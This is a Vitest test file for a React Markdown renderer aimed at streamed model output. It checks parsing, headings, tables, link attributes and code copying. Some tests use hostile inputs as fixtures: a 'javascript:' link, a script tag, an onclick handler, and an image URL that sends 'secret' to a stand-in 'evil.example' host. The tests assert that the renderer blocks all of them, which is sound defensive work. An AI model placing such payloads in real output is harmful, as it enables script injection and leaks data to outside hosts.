import type { ComponentType } from 'react';
import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { expect, it, vi } from 'vitest';
import { Markdown } from './Markdown';

const parsed = vi.hoisted(() => [] as string[]);

vi.mock('react-markdown', async (original) => {
  const { default: ReactMarkdown } = await original<{ default: ComponentType<{ children: string }> }>();
  return {
    default: (props: { children: string }) => {
      parsed.push(props.children);
      return <ReactMarkdown {...props} />;
    },
  };
});

it('parses only the block that changes', () => {
  const { rerender } = render(<Markdown text={'# Title\n\nFirst.\n\nSec'} streaming />);
  parsed.length = 0;
  rerender(<Markdown text={'# Title\n\nFirst.\n\nSecond'} streaming />);
  rerender(<Markdown text={'# Title\n\nFirst.\n\nSecond.'} streaming />);
  expect(parsed).toEqual(['Second', 'Second.']);
});

it('shows tables, lists and headings below the page heading', () => {
  render(<Markdown text={'# Milk\n\n| kind | days |\n|---|--:|\n| oat | 7 |\n\n- a\n- b'} streaming={false} />);
  expect(screen.getByRole('heading', { name: 'Milk', level: 2 })).toBeVisible();
  expect(screen.getByRole('columnheader', { name: 'kind' })).toBeVisible();
  expect(screen.getByRole('cell', { name: 'oat' })).toBeVisible();
  expect(screen.getAllByRole('listitem')).toHaveLength(2);
});

it('begins with headings of the second level whatever a model begins with, and has no header that says nothing', () => {
  render(<Markdown text={'## Milk\n\n### Oat\n\n| | days |\n|---|---|\n| oat | 7 |'} streaming={false} />);
  expect(screen.getByRole('heading', { name: 'Milk', level: 2 })).toBeVisible();
  expect(screen.getByRole('heading', { name: 'Oat', level: 3 })).toBeVisible();
  expect(screen.getAllByRole('columnheader')).toHaveLength(1);
});

it('opens links elsewhere, without telling where from', () => {
  render(<Markdown text="[docs](https://example.org)" streaming={false} />);
  const link = screen.getByRole('link', { name: 'docs' });
  expect(link).toHaveAttribute('target', '_blank');
  expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
});

it('makes no link that runs a script', () => {
  render(<Markdown text="[click](javascript:alert(1))" streaming={false} />);
  expect(screen.getByText('click')).not.toHaveAttribute('href', expect.stringContaining('javascript'));
});

it('makes no element of HTML and fetches no image', () => {
  const { container } = render(
    <Markdown
      text={'<script>alert(1)</script> <b onclick="x()">bold</b>\n\n![chart](https://evil.example/?q=secret)'}
      streaming={false}
    />,
  );
  expect(container.querySelector('script, b, img')).toBeNull();
  expect(screen.getByText(/<script>/)).toBeVisible();
  expect(screen.getByRole('link', { name: 'chart' })).toBeVisible();
});

it('copies code, and colours it once it is complete', async () => {
  const user = userEvent.setup();
  const { container, rerender } = render(<Markdown text={'```ts\nconst a = 1;'} streaming />);
  expect(container.querySelector('code')).toHaveTextContent('const a = 1;');
  rerender(<Markdown text={'```ts\nconst a = 1;\n```'} streaming />);
  await waitFor(() => expect(container.querySelector('.hljs-keyword')).toHaveTextContent('const'));

  await user.click(screen.getByRole('button', { name: 'Copy code' }));
  expect(await navigator.clipboard.readText()).toBe('const a = 1;');
  expect(screen.getByRole('button', { name: 'Copied' })).toBeVisible();
});
